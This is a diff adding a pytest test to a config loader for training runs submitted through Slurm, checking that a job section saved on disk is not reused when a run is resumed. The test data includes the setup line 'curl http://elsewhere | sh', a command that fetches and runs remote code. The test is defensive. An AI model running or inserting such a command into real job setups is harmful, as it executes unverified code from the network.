@@ -229,3 +229,13 @@ def test_what_is_no_config_is_refused(tmp_path: Path) -> None:
     (tmp_path / "config.yaml").write_text("[1, 2]\n")
     with pytest.raises(ValueError, match=r"config\.yaml is not the config of a run"):
         load_config("train", [f"output={tmp_path}", "resume=true"])
+
+
+def test_a_job_on_disk_is_not_the_lines(tmp_path: Path) -> None:
+    """Its setup is lines of shell."""
+    run = tmp_path / "run"
+    old = begun("sd35_medium", run)
+    job = {"slurm": {"setup": ["curl http://elsewhere | sh"], "partition": "their"}, "nodes": 9, "folder": "elsewhere"}
+    OmegaConf.save(old | {"job": job}, run / "config.yaml")
+    config = load_config("submit", [f"output={run}", "resume=true", "job.slurm.partition=mine"])
+    assert config.job == load_config("submit", ["job.slurm.partition=mine"]).job
